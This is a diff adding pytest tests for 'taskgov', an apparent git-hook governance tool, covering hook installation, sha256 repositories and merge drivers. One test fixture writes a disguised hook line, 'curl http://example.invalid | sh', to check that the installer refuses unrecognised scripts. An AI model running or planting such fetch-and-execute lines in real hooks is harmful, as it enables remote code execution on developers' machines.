@@ -270,11 +270,112 @@ def test_chained_hook_and_taskgov_both_see_stdin(run, governed: GitRepo, tmp_pat
     old = governed.git("rev-parse", "HEAD").strip()
     _commit(governed, f"feat: two\n\n{AI}", {"CLAUDECODE": "1"}, extra=("--amend",))
     assert seen.read_text().split()[0] == old  # the chained hook got the rewrite list
-    records = [
-        json.loads(x)
-        for p in (governed.path / ".claude/contributions").glob("*.jsonl")
-        for x in p.read_text().splitlines()
-    ]
-    assert old not in [r["commit"] for r in records]  # and so did taskgov
-    agent = next(r for r in records if r["summary"] == "Two")
-    assert (agent["ai_assisted"], agent["agent_env"]) == (True, ["CLAUDECODE"])
+    new = governed.git("rev-parse", "HEAD").strip()
+    journal = governed.path / ".git/taskgov/rewritten.jsonl"
+    noted = [json.loads(x) for x in journal.read_text().splitlines()]
+    assert noted == [{"from": old, "to": new, "how": "amend"}]  # and so did taskgov
+
+
+def test_pre_push_checks_sha256_repositories(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    path = tmp_path / "sha256"
+    subprocess.run(
+        ["git", "init", "-q", "--object-format=sha256", "--template=", str(path)], check=True
+    )
+    repo = GitRepo(path)
+    assert run(path, "init").code == 0
+    assert run(path, "hooks", "install").code == 0
+    repo.commit("chore: adopt taskgov")
+    remote = tmp_path / "remote.git"
+    subprocess.run(
+        ["git", "init", "-q", "--bare", "--object-format=sha256", str(remote)], check=True
+    )
+    repo.git("remote", "add", "origin", str(remote))
+    done = _commit(repo, "feat: agent work", {"CLAUDECODE": "1"}, extra=("--no-verify",))
+    assert done.returncode == 0, done.stderr
+    pushed = subprocess.run(
+        ["git", "-C", str(path), "push", "-q", "origin", "main"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )  # a new branch: the remote's "no commit" id is 64 zeros here
+    assert pushed.returncode != 0
+    assert "TG201" in pushed.stderr
+
+
+def test_install_recognises_only_its_own_scripts(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
+    run(repo.path, "init")
+    hook = repo.path / ".githooks/commit-msg"
+    hook.write_text("#!/bin/sh\n# looks like taskgov, is not\ncurl http://example.invalid | sh\n")
+    refused = run(repo.path, "hooks", "install")
+    assert refused.code == 2
+    assert "commit-msg" in refused.err
+    configured = subprocess.run(
+        ["git", "-C", str(repo.path), "config", "--get", "core.hooksPath"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert configured.stdout == ""
+
+
+def test_install_lists_local_scripts_it_would_enable(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
+    run(repo.path, "init")
+    local = repo.path / ".githooks/pre-commit.local"
+    local.write_text("#!/bin/sh\necho planted\n")
+    local.chmod(0o755)
+    refused = run(repo.path, "hooks", "install")
+    assert refused.code == 2
+    assert "pre-commit.local" in refused.err
+    assert run(repo.path, "hooks", "install", "--force").code == 0
+
+
+def test_install_upgrades_the_scripts_of_earlier_versions(run, repo: GitRepo) -> None:  # type: ignore[no-untyped-def]
+    from tests.conftest import PROJECT
+
+    earlier = subprocess.run(  # the post-commit script as the first release wrote it
+        ["git", "-C", str(PROJECT), "show", "b4db3c8:templates/githooks/post-commit"],
+        capture_output=True,
+        check=False,
+    )
+    if earlier.returncode != 0:
+        pytest.skip("this checkout has no history of the hook templates")
+    run(repo.path, "init")
+    hook = repo.path / ".githooks/post-commit"
+    hook.write_bytes(earlier.stdout)
+    result = run(repo.path, "hooks", "install", "--json")
+    assert result.code == 0, result.err
+    assert "post-commit" in result.json()["written"]
+    assert hook.read_text() != earlier.stdout.decode()
+    assert not (repo.path / ".githooks/post-commit.local").exists()
+
+
+def test_legacy_merge_driver_survives_a_quote_in_the_interpreter_path(
+    repo: GitRepo, tmp_path: Path
+) -> None:
+    from taskgov.policy.load import load_config
+    from taskgov.hooks.install import install
+
+    odd = tmp_path / "it's here" / "python"
+    odd.parent.mkdir()
+    odd.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
+    odd.chmod(0o755)
+    (repo.path / ".gitattributes").write_text(".claude/contributions/*.jsonl merge=taskgov-log\n")
+    log = repo.path / ".claude/contributions/2026-01.jsonl"
+    log.parent.mkdir(parents=True)
+    log.write_text('{"date": "2026-01-01", "commit": "a"}\n')
+    repo.commit("chore: base")
+    install(load_config(repo.path), force=True, python=str(odd))
+    repo.git("switch", "-q", "-c", "side")
+    log.write_text(log.read_text() + '{"date": "2026-01-03", "commit": "c"}\n')
+    repo.git("commit", "-qam", "side", "--no-verify")
+    repo.git("switch", "-q", "main")
+    log.write_text(log.read_text() + '{"date": "2026-01-02", "commit": "b"}\n')
+    repo.git("commit", "-qam", "main", "--no-verify")
+    merged = subprocess.run(
+        ["git", "-C", str(repo.path), "merge", "-q", "--no-edit", "--no-verify", "side"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert merged.returncode == 0, merged.stderr
+    assert [json.loads(x)["commit"] for x in log.read_text().splitlines()] == ["a", "b", "c"]
